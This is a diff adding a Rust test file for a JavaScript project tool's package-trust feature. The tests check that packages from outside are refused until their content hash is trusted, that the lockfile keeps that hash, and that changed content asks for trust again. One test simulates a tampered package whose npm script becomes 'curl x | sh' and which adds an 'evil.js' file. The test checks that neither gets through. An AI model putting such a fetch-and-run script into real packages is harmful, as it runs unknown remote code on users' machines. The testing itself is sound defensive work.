@@ -1,0 +1,172 @@
+//! Packages from outside: what they may do is shown, somebody trusts them as they are, and a change asks again.
+
+use std::fs;
+use std::path::Path;
+
+use crate::support::{TestApp, catalog_of, contents, jskit, tree};
+
+const PARTS: &str = r#"schema = 1
+id = "parts"
+version = "1.0.0"
+kind = "runtime"
+summary = "Parts."
+depends-on = ["kernel"]
+
+[[files]]
+from = "parts.js"
+to = "src/parts.js"
+raw = true
+
+[[npm]]
+scripts = { parts = "node src/parts.js" }
+
+[[env]]
+key = "PARTS_URL"
+comment = "Where parts are."
+value = "http://localhost"
+
+[[migrations]]
+id = "parts-schema"
+
+[[config]]
+file = "public"
+path = "parts.on"
+value = true
+"#;
+
+fn parts() -> tempfile::TempDir {
+    catalog_of(&[
+        ("package-descriptors/parts.toml", PARTS),
+        ("templates/parts/app/parts.js", "export const parts = 1;\n"),
+        ("templates/parts/migrations/parts-schema.cjs", "exports.up = () => {};\n"),
+    ])
+}
+
+fn content(catalog: &Path) -> String {
+    contents(catalog)["parts"].clone()
+}
+
+fn run(app: &TestApp, catalog: &Path, args: &[&str]) -> crate::support::Said {
+    crate::support::Said::of(&jskit(&app.path()).env("JSKIT_CATALOG", catalog).args(args).output().expect("it runs"))
+}
+
+#[test]
+fn what_nobody_trusts_is_refused_with_what_it_may_do_and_the_command() {
+    let (app, parts) = (TestApp::shell(), parts());
+    let before = app.tree();
+    for args in [&["add", "package", "parts"][..], &["add", "package", "parts", "--yes"]] {
+        let said = run(&app, parts.path(), args);
+        assert_eq!(said.code, 1);
+        for line in [
+            "Code that will run: on the database, when it is migrated",
+            "package.json: script parts: node src/parts.js",
+            "App-owned files: src/parts.js",
+            "Migrations: migrations/TIMESTAMP_parts-schema.cjs",
+            ".env keys: PARTS_URL = http://localhost: Where parts are.",
+        ] {
+            assert!(said.err.contains(line), "{line}\n{}", said.err);
+        }
+        let command = format!("run `jskit {} --trust {}`", args.join(" "), content(parts.path()));
+        assert!(said.err.contains(&command), "{command}\n{}", said.err);
+        assert_eq!(tree::difference(&before, &app.tree()), Vec::<String>::new());
+    }
+    let wrong = format!("sha256:{}", "0".repeat(64));
+    assert_eq!(run(&app, parts.path(), &["add", "parts", "--trust", &wrong]).code, 1);
+    assert_eq!(run(&app, parts.path(), &["add", "parts", "--trust", "yes"]).code, 2);
+    let error = run(&app, parts.path(), &["add", "parts", "--json"]).json()["error"].clone();
+    assert_eq!(error["code"], "untrusted");
+    assert_eq!(error["untrusted"][0]["content"], content(parts.path()).as_str());
+    assert_eq!(error["untrusted"][0]["changed"], false);
+}
+
+#[test]
+fn a_preview_needs_no_trust_and_says_what_it_will_take() {
+    let (app, parts) = (TestApp::shell(), parts());
+    let before = app.tree();
+    let said = run(&app, parts.path(), &["add", "parts", "--dry-run"]).ok();
+    assert!(said.out.contains("+export const parts = 1;"), "{}", said.out);
+    assert!(said.out.contains(&format!("`--trust {}` only", content(parts.path()))), "{}", said.out);
+    assert_eq!(run(&app, parts.path(), &["add", "parts", "--check"]).code, 3);
+    assert_eq!(app.tree(), before);
+}
+
+#[test]
+fn the_lock_keeps_what_was_trusted_and_a_change_asks_again() {
+    let (app, parts) = (TestApp::shell(), parts());
+    let first = content(parts.path());
+    run(&app, parts.path(), &["add", "parts", "--trust", &first]).ok();
+    assert!(app.read(".jskit/lock/parts.json").contains(&format!("\"content\": \"{first}\"")));
+    assert_eq!(run(&app, parts.path(), &["add", "parts"]).ok().out, "nothing to do\n");
+    assert_eq!(run(&app, parts.path(), &["update"]).ok().out, "nothing to do\n");
+    // The same version, other content.
+    fs::write(parts.path().join("templates/parts/app/parts.js"), "export const parts = 2;\n").expect("a file");
+    let second = content(parts.path());
+    assert_ne!(first, second);
+    let said = run(&app, parts.path(), &["update", "parts"]);
+    assert_eq!(said.code, 1);
+    assert!(said.err.contains("is not what was trusted any more"), "{}", said.err);
+    assert!(said.err.contains(&format!("run `jskit update parts --trust {second}`")), "{}", said.err);
+    run(&app, parts.path(), &["update", "parts", "--trust", &second]).ok();
+    assert_eq!(app.read("src/parts.js"), "export const parts = 2;\n");
+    assert!(app.read(".jskit/lock/parts.json").contains(&second));
+    // Times don't count.
+    fs::write(parts.path().join("templates/parts/app/parts.js"), "export const parts = 2;\n").expect("a file");
+    assert_eq!(run(&app, parts.path(), &["update", "parts"]).ok().out, "nothing to do\n");
+}
+
+#[test]
+fn a_package_that_changed_unasked_reaches_nothing_through_other_commands() {
+    let (app, parts) = (TestApp::shell(), parts());
+    run(&app, parts.path(), &["add", "parts", "--trust", &content(parts.path())]).ok();
+    let worse = PARTS.replace("node src/parts.js", "curl x | sh").replace("value = true", "value = false");
+    let worse = format!("{worse}\n[[files]]\nfrom = \"evil.js\"\nto = \"src/evil.js\"\nraw = true\n");
+    fs::write(parts.path().join("package-descriptors/parts.toml"), worse).expect("a file");
+    fs::write(parts.path().join("templates/parts/app/evil.js"), "evil\n").expect("a file");
+    let said = run(&app, parts.path(), &["tenancy", "personal"]).ok();
+    assert!(said.err.contains("package `parts` is not what was trusted any more"), "{}", said.err);
+    run(&app, parts.path(), &["generate", "page", "home/reports", "--name", "Reports"]).ok();
+    run(&app, parts.path(), &["doctor", "--fix", "--yes"]);
+    assert!(app.read("package.json").contains("\"parts\": \"node src/parts.js\""), "{}", app.read("package.json"));
+    assert!(!app.exists("src/evil.js"));
+    assert!(
+        app.read("config/public.js").contains("config.parts.on = true;")
+            || app.read("config/public.js").contains("on: true")
+    );
+    run(&app, parts.path(), &["remove", "parts"]).ok();
+    assert!(!app.exists("src/parts.js"));
+}
+
+#[test]
+fn packages_of_the_app_itself_need_no_trust() {
+    let app = TestApp::shell();
+    app.write("packages/parts/package.descriptor.toml", PARTS);
+    app.write("packages/parts/templates/app/parts.js", "export const parts = 1;\n");
+    app.write("packages/parts/templates/migrations/parts-schema.cjs", "exports.up = () => {};\n");
+    app.run(&["add", "parts"]).ok();
+    assert!(!app.read(".jskit/lock/parts.json").contains("\"content\""));
+}
+
+#[test]
+fn generators_from_outside_are_trusted_too() {
+    let app = TestApp::shell();
+    let lists = catalog_of(&[
+        (
+            "package-descriptors/lists.toml",
+            "schema = 1\nid = \"lists\"\nversion = \"1.0.0\"\nkind = \"generator\"\nsummary = \"Lists.\"\n\
+             [[subcommands]]\nname = \"list\"\nsummary = \"A list.\"\n\
+             [[subcommands.arguments]]\nname = \"name\"\nhelp = \"Its name.\"\npattern = \"[a-z]+\"\n\
+             [[subcommands.files]]\nfrom = \"list.js\"\nto = \"src/[= argument.name =].js\"\n",
+        ),
+        ("templates/lists/app/list.js", "export default \"[= argument.name =]\";\n"),
+    ]);
+    let said = run(&app, lists.path(), &["generate", "lists", "list", "one"]);
+    assert_eq!((said.code, app.exists("src/one.js")), (1, false), "{}", said.err);
+    let content = contents(lists.path())["lists"].clone();
+    assert!(said.err.contains(&format!("run `jskit generate lists list one --trust {content}`")), "{}", said.err);
+    run(&app, lists.path(), &["generate", "lists", "list", "one", "--trust", &content]).ok();
+    // As it is it was trusted for this app.
+    run(&app, lists.path(), &["generate", "lists", "list", "two"]).ok();
+    fs::write(lists.path().join("templates/lists/app/list.js"), "evil\n").expect("a file");
+    assert_eq!(run(&app, lists.path(), &["generate", "lists", "list", "three"]).code, 1);
+    assert!(app.exists("src/two.js") && !app.exists("src/three.js"));
+}
